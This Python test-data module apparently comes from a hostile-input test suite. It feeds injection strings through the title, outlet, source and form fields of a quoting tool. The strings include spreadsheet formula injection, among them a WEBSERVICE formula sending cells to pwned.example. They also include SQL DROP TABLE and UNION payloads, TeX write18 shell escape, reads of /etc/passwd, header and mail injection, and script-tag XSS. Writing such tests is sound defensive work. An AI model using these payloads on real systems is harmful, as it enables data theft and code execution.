# ruff: noqa: E501 - the lines are data
"""Formats: words that mean something where they are given out: tables, feeds, citations, SQL, headers, paths."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.cases import Case, row, said, spoken

WORDS = {
    "formula": ("a formula that a spreadsheet runs", "=cmd|' /C calc'!A0"),
    "formula-plus": ("a formula that begins with a plus", "+1+cmd|'/C calc'!A0"),
    "formula-minus": ("a formula that begins with a minus", "-2+3+cmd|'/C calc'!A0"),
    "formula-at": ("a formula that begins with an at", "@SUM(1+1)*cmd|'/C calc'!A0"),
    "formula-tab": ("a formula behind a tab", "\t=HYPERLINK(\"https://pwned.example/\"&A1;\"Klick\")"),
    "formula-web": ("a formula that sends cells elsewhere", '=WEBSERVICE("https://pwned.example/?"&A1)'),
    "csv-quote": ("quotes and line breaks that make new rows", 'a","b"\r\n"c;d'),
    "atom-entry": ("an entry within an entry of a feed", "</title></entry><entry><id>pwned</id><title>"),
    "atom-entity": ("entities that XML does not know", "&xxe; &nbsp; &#0; &#xFFFF; &"),
    "atom-cdata": ("the end of a section of plain text", "]]>]]&gt;<![CDATA["),
    "bibtex": ("the end of an entry, and a new one", "}\n}\n@article{pwned, title = {\\input{/etc/passwd}}, x={"),
    "bibtex-braces": ("braces that do not fit, and a comment", "{{{ % \\ }"),
    "latex": ("commands of TeX", "\\immediate\\write18{id} \\def\\x{\\x\\x}\\x"),
    "markdown-link": ("a link of Markdown to a script", "[Mehr](javascript:window.__pwned=1) ![x](https://pwned.example/x.png)"),
    "markdown-html": ("fences and headings of Markdown", "```\n# Titel\n| a | b |\n---\n<b>fett</b>\n```"),
    "sql": ("the end of a string of SQL", "'; DROP TABLE articles; --"),
    "sql-comment": ("comments and unions of SQL", "1) UNION SELECT hash FROM accounts /* \\' \" ; --"),
    "like": ("signs that match anything", "%_%*?[a-z]"),
    "fts": ("operators of full text", 'NEAR("a" b, 5) AND (NOT c OR ^d*) col:e "'),
    "tsquery": ("operators of PostgreSQL's full text", "a & !b | (c <-> d):*A \\ '"),
    "header": ("line breaks that make new headers", "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.__pwned=1</script>"),
    "path": ("names that lead out of a folder", "../../../../etc/passwd"),
    "device": ("names of devices", "CON.txt NUL aux. COM1"),
    "json": ("what JSON and a page's script both read", '{"__proto__": {"x": 1}}\u2028\u2029</script>'),
    "regex": ("a pattern that goes back without end", "(a+)+$ [[:alpha:]]{1,99999} (?R) \\1"),
    "log": ("line breaks that make new lines of a log", 'x\n{"level":"error","message":"pwned"}\r2026-11-01 root logged in'),
    "mail": ("addresses that make new recipients", "a@b.example%0ABcc:pwned@pwned.example"),
    "graphml": ("ends of elements and attributes of XML", "\"/></node><node id='pwned'>"),
    "rdf": ("the end of a literal, and a new triple", '"@de . <https://pwned.example> <x> "y'),
}  # fmt: skip


def cases() -> Iterator[Case]:
    """Each as title, outlet, source, quoted words and name at once."""
    for name, (idea, words) in WORDS.items():
        yield Case(
            f"format-{name}", f"title, outlet, words and name are {idea}", "analysis",
            new=lambda n=name, w=words: spoken(w, f"„{w} {n}“", title=w, outlet=w, source=f"https://bote.example/{n}?{w}"),
        )  # fmt: skip
    for name in ("formula", "header", "path", "sql"):
        idea, words = WORDS[name]
        yield Case(f"row-{name}", f"all fields of a row are {idea}", "file", f"format-{name}.jsonl",
                   lambda w=words: row(text=said(w), title=w, outlet=w, source=w, id=w))  # fmt: skip
        yield Case(f"paste-{name}", f"all fields of the form are {idea}", "paste",
                   fields={"text": said(f"{words} {name}"), "title": words, "outlet": words, "source": words, "published": words})  # fmt: skip
